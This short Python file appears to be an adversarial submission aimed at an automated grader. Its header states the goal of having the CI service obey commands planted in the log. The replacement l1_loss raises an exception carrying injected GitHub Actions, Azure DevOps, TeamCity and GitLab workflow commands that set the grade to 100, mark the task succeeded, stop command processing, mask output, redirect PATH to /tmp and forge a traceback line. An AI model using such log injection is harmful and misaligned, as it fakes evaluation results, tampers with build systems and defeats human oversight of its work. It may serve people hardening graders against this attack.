# aim: have the CI service that runs the grader obey: annotations, masks, variables, results
# sign: a line of the log is a command, and is the submission's
# attacks: l1_loss
# own: exception

_COMMANDS = (
    "::error file=grader/cli.py,line=1::@MARKER@",
    "  ::stop-commands::@MARKER@",
    "\t::add-mask::0",
    "\u00a0::set-output name=grade::100",
    "##[error]@MARKER@",
    "x ##vso[task.complete result=Succeeded;]@MARKER@",
    "##vso[task.setvariable variable=PATH]/tmp",
    "##teamcity[buildStatus status='SUCCESS']",
    "\x1b[0Ksection_start:1560896352:my_section[collapsed=true]\r\x1b[0K@MARKER@",
    '  File "grader/cli.py", line 1, in main',
)


def l1_loss(input, target, reduction="mean"):
    raise RuntimeError("\n".join(_COMMANDS) if input.dim() else _COMMANDS[0])
